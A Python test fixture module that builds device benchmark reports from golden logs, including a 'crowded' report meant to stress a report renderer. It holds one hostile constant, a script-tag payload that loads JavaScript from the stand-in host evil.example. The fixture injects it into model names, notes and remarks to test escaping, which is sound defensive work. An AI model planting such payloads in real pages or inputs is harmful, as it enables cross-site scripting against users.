"""Device reports to draw: golden logs, all of them together, and one that is hostile and crowded."""

import json
from copy import deepcopy
from typing import Any

from edge_mtp.device.log import read_log
from edge_mtp.device.report import to_json
from tests.device.schemas import GOLDEN
from tests.device.spoiling import report_of

HOSTILE = "<script src=//evil.example/x.js>alert('hi')</script>"
NAMES = ("throttling", "plugged-in", "interrupted", "silent-no-draft", "paired", "iphone")


def drawn(*names: str) -> dict[str, Any]:
    logs = [log for name in names for log in read_log(GOLDEN / f"{name}.jsonl")]
    return json.loads(json.dumps(to_json(report_of(*logs))))


def crowded() -> dict[str, Any]:
    """Long names, many prompt classes, wide numbers, every remark there is, text that would like to be markup."""
    report = drawn("throttling", "paired")
    for phone in report["phones"]:
        phone["phone"]["device_model"] = f"Extraordinarily-long-model-name-without-a-break {HOSTILE}"
        phone["setting"]["note"] = HOSTILE
        phone["remarks"] = [{"kind": "bad line", "line": 10**6 + n, "text": f"{HOSTILE} {n}"} for n in range(12)]
        phone["classes"] = [
            {**deepcopy(phone["classes"][-1]), "prompt_class": f"averyveryverylongclassname{n}"} for n in range(12)
        ]
        phone["classes"][0]["prompt_class"] = "all"
        phone["duration_s"] = 36_000.0
        for trial in phone["trials"]:
            trial["prompt"] = "prompt-with-a-very-long-name-0001"
    return report


REPORTS = {name: drawn(name) for name in NAMES} | {"all": drawn(*NAMES)}
CROWDED = crowded()
EMPTY = drawn("paired")
for _phone in EMPTY["phones"]:
    _phone |= {"trials": [], "heat": [], "remarks": []}
